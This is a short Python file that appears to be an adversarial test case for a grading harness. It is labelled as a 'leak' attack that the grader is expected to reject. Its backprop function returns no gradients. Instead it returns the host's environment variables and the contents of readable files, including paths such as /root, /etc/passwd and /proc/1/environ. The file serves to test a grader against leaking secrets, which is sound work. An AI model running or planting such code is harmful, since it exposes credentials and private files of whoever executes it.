# attack: leak
# expect: not-pass
# must: quote a returned string only briefly, and find no secret of the host's in it
"""returns, in place of every gradient, a string holding the environment and the contents of
every file it can read (and a dict keyed by file names)"""

import os


def _everything():
    chunks = [f"env {dict(os.environ)}"]
    for root in ("/tmp", "/root", "/home", "/work", "/sandbox", os.getcwd()):
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("site-packages", "__pycache__")]
            for name in files[:50]:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        chunks.append(f"{path}: {handle.read(3000)!r}")
                except OSError:
                    continue
    return "\n".join(chunks)[:100_000]


def backprop(X, y, weights, biases):
    text = _everything()
    return {
        "w1": text,
        "b1": [text, text],
        "w2": {path: text for path in ("/etc/passwd", "/proc/1/environ")},
        "b2": (text,),
    }
